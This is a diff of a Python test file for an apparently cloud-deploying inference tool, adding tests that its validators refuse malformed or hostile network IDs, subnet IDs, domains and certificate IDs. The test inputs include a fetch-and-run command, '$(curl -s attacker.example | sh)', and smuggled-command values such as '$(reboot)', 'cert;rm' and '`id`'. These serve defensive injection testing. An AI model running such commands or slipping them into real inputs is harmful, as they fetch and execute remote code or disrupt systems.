@@ -72,14 +72,57 @@ def test_private_networks_need_no_api_key(run: Any) -> None:
 
 
 def test_network_without_subnets_is_rejected(run: Any) -> None:
-    message, recording = _rejected(run, _server(network_id="vpc-0byo"))
+    message, recording = _rejected(run, _server(network_id="vpc-0b1e55ed"))
     assert "network_id and subnet_ids come together" in message
     assert recording.resources == []
 
 
 def test_production_with_fewer_subnets_than_zones_is_rejected(run: Any) -> None:
-    message, recording = _rejected(run, _server(network_id="vpc-0byo", subnet_ids=["subnet-0a"]))
+    message, recording = _rejected(run, _server(network_id="vpc-0b1e55ed", subnet_ids=["subnet-0000000a"]))
     assert "chat.subnet_ids" in message and "give 2 subnets in distinct zones" in message
+    assert recording.resources == []
+
+
+BROUGHT_IDS = ("network_id", "subnet_ids", "load_balancer_subnet_ids", "security_group_ids", "instance_identity")
+HOSTILE = "$(curl -s attacker.example | sh)"
+
+
+@pytest.mark.parametrize("cloud", CLOUDS)
+def test_each_clouds_example_ids_are_of_its_own_form(cloud: str) -> None:
+    rules = backend_for(cloud).brought_ids
+    for rule in (rules.network, rules.subnet, rules.firewall, rules.identity):
+        assert rule.problem("f", rule.example) is None, (cloud, rule)
+        assert rule.problem("f", HOSTILE) is not None
+
+
+@pytest.mark.parametrize("cloud", CLOUDS)
+@pytest.mark.parametrize("key", BROUGHT_IDS)
+def test_a_brought_id_not_of_the_clouds_form_is_refused_naming_it_and_registers_nothing(run: Any, cloud: str,
+                                                                                        key: str) -> None:
+    rules = backend_for(cloud).brought_ids
+    given = {"network_id": rules.network.example, "subnet_ids": [rules.subnet.example] * 2}
+    given[key] = HOSTILE if key in ("network_id", "instance_identity") else [HOSTILE]
+    plan = sample_plan(cloud, "gpu-llm", "validation")  # type: ignore[arg-type]
+    message, recording = _rejected(run, lambda: InferenceServer("chat", {"plan": plan, **given}))
+    kind = {"network_id": rules.network, "instance_identity": rules.identity, "security_group_ids": rules.firewall
+            }.get(key, rules.subnet).kind
+    assert f"chat.{key}: is not {kind} (got {HOSTILE!r})" in message
+    assert recording.resources == []
+
+
+@pytest.mark.parametrize(("key", "value", "expected"), [
+    ("assets_domain", "$(reboot)", "chat.assets_domain: is not a lowercase DNS name"),
+    ("assets_certificate", "cert;rm", "chat.assets_certificate: is not the id of the domain's certificate in SCM"),
+    ("api_domain", "api.example.com/x", "chat.api_domain: is not a lowercase DNS name"),
+    ("api_certificate", "`id`", "chat.api_certificate: is not the id of the domain's server certificate"),
+])
+def test_a_domain_or_certificate_the_plan_does_not_use_is_still_refused_when_malformed(
+        run: Any, key: str, value: str, expected: str) -> None:
+    # One server (no endpoint) with static assets off: none of the four is used, each is still checked.
+    plan = sample_plan("huawei", "gpu-llm", "validation")
+    message, recording = _rejected(run, lambda: InferenceServer("chat", {"plan": plan, "static_assets": False,
+                                                                         key: value}))
+    assert expected in message and repr(value) in message
     assert recording.resources == []
 
 
@@ -145,7 +188,7 @@ def test_incomplete_plan_lists_the_missing_fields_once(run: Any) -> None:
 
 def test_wrongly_typed_config_names_the_key(run: Any) -> None:
     message = _config_rejected(run, {"inferstack:cloud": "aws", "inferstack:plan": {},
-                                     "inferstack:subnetIds": "subnet-0a"})
+                                     "inferstack:subnetIds": "subnet-0000000a"})
     assert "inferstack:subnetIds" in message
 
 
